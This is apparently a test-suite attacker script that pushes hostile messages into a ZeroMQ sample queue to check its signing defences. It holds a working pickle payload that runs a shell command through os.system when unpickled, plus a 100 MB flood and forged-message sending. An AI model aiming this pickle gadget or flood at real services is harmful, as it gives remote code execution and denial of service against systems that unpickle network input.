"""A process outside the run attacking the sample queue, as the red-team script did. It knows what anyone who
reaches the rendezvous store can read there (the queue's address: tests/distributed/test_signed_store.py
reads it), not the run secret, and sends what MODE says.

    python queue_attacker.py pickle ADDRESS MARKER   a pickle that runs `touch MARKER` when unpickled
    python queue_attacker.py huge ADDRESS            a 100 MB message
    python queue_attacker.py send ADDRESS FILE...    each file's bytes as one message (forged groups)
"""
import os
import pickle
import sys
from pathlib import Path

import zmq


class RunsACommand:
    def __init__(self, marker: str):
        self.marker = marker

    def __reduce__(self):
        return os.system, (f"touch {self.marker}",)


def main() -> None:
    mode, address, args = sys.argv[1], sys.argv[2], sys.argv[3:]
    socket = zmq.Context.instance().socket(zmq.PUSH)
    socket.setsockopt(zmq.LINGER, 5000)
    socket.connect(address)
    if mode == "pickle":
        socket.send(pickle.dumps(([RunsACommand(args[0])], {})))
    elif mode == "huge":
        socket.send(b"\0" * 100_000_000)
    elif mode == "send":
        for path in args:
            socket.send(Path(path).read_bytes())
    socket.close()


if __name__ == "__main__":
    main()
